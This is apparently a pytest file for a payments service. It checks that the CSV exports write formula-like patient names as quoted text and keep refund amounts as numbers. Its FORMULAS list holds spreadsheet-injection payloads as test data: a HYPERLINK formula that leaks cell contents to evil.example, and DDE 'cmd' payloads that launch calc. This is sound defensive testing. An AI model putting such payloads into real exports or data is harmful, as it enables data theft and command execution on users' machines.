"""Worked example: the accountant opens the CSV exports in a spreadsheet.

Patients' names are typed by people (at the front desk, or read from the PMS). A name
such as `=HYPERLINK("http://evil.example","Click")` would be a formula in Excel or
LibreOffice if it began a cell; the exports write it as text (a leading `'`), while
the amounts, which the ledger writes as numbers, stay numbers (a refund's -12.50).
"""

from __future__ import annotations

import csv
import io
from typing import Any

from services.app.exports import spreadsheet_cell
from tests.conftest import Api

DAY = 86400

#: names as an attacker would type them: each begins a formula in a spreadsheet (a name
#: is kept without its leading spaces, tabs and line breaks: those are checked below)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def new_patient(api: Api, number: int, first_name: str) -> dict[str, Any]:
    body = {
        "pms_patient_id": f"90{number}",
        "first_name": first_name,
        "last_name": "Example",
        "email": f"patient{number}@example.com",
    }
    response = api.post("/v1/patients", body)
    assert response.status_code == 201, response.text
    patient: dict[str, Any] = response.json()
    return patient


def rows_of(api: Api, view: str) -> list[dict[str, str]]:
    response = api.get(f"/v1/exports/{view}.csv")
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def assert_text(cell: str, name: str) -> None:
    """The name is all there, behind the quote that makes it text."""
    assert cell == f"'{name} Example", cell


def test_every_export_writes_formula_like_names_as_text_and_amounts_as_numbers(
    api: Api,
) -> None:
    patients = [new_patient(api, n, name) for n, name in enumerate(FORMULAS)]
    payments = [api.pay(5000 + n, patient_id=p["id"]).json() for n, p in enumerate(patients)]
    for patient in patients:
        sent = api.post(
            "/v1/payment-requests",
            {"patient_id": patient["id"], "amount": 2500, "channel": "email"},
        )
        assert sent.status_code == 201, sent.text
    api.advance(DAY)  # the batch closes: a deposit tomorrow
    refund = api.post(f"/v1/payments/{payments[0]['id']}/refund", {"amount": 1250})
    assert refund.status_code == 200 and refund.json()["kind"] == "refund", refund.text
    api.advance(DAY)  # the refund's batch: a withdrawal of -12.50

    transactions = rows_of(api, "transactions")
    by_payment = {row["id"]: row for row in transactions}
    for payment, name in zip(payments, FORMULAS, strict=True):
        row = by_payment[payment["id"]]
        assert_text(row["patient_name"], name)
        assert row["amount"] == f"{(5000 + FORMULAS.index(name)) / 100:.2f}"
    assert by_payment[payments[0]["id"]]["refunded_amount"] == "12.50"

    requests = rows_of(api, "payment-requests")
    assert sorted(r["patient_name"] for r in requests) == sorted(f"'{n} Example" for n in FORMULAS)
    assert {r["amount"] for r in requests} == {"25.00"}

    deposits = rows_of(api, "deposits")
    names = {r["patient_name"] for r in deposits if r["kind"] == "payment"}
    assert names == {f"'{n} Example" for n in FORMULAS}
    refund_lines = [r for r in deposits if r["kind"] == "refund"]
    assert len(refund_lines) == 1
    assert_text(refund_lines[0]["patient_name"], FORMULAS[0])
    # the ledger's own numbers stay numbers, a minus sign and all
    assert refund_lines[0]["amount"] == "-12.50"
    assert refund_lines[0]["deposit_net_amount"].startswith("-")


def test_what_a_spreadsheet_would_run_is_quoted_and_nothing_else() -> None:
    for text in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "\uff1d1+1"]:
        assert spreadsheet_cell(text) == "'" + text
    for text in ["Rosa", "O'Brien", "", "1-2", "a=b", " =1+1"]:
        assert spreadsheet_cell(text) == text
    # numbers written by the ledger are not text
    from decimal import Decimal

    assert spreadsheet_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(None) is None
